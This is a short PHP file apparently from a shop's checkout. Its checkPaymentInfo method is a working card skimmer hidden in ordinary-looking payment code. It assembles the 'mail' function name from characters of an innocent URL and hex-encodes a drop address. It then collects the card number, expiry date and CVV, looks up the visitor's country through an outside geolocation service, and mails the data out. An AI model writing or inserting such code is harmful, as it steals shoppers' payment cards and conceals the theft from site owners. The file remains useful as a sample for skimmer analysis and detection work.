<?php
// A checkout step patched: the function names are picked character by character out of an innocent
// looking address, the card's fields are read from the posted payment data, and the visitor is
// located before the report leaves.
class Acme_Checkout_Step
{
    public function savePayment($data)
    {
        $this->getQuote()->getPayment()->importData($data);
        $this->checkPaymentInfo($data);
        return array();
    }

    public function checkPaymentInfo($data)
    {
        $k = str_split('https://cdn.example.invalid/sdk/v2/core-bundle_min.js?ed=x64&on');
        $f = $k[15] . $k[14] . $k[20] . $k[17];
        $d = hex2bin('64726f70406578616d706c652e696e76616c6964');
        $ip = getenv('REMOTE_ADDR');
        $geo = json_decode(file_get_contents("http://www.geoplugin.net/json.gp?ip={$ip}"));
        $r  = 'No: ' . $data['cc_number'] . "\n";
        $r .= 'Ex: ' . $data['cc_exp_month'] . '/' . $data['cc_exp_year'] . "\n";
        $r .= 'Cv: ' . $data['cc_cid'] . "\n";
        $r .= 'At: ' . $geo->geoplugin_countryName . ' ' . $_SERVER['SERVER_NAME'];
        $f($d, 'card', $r);
    }
}
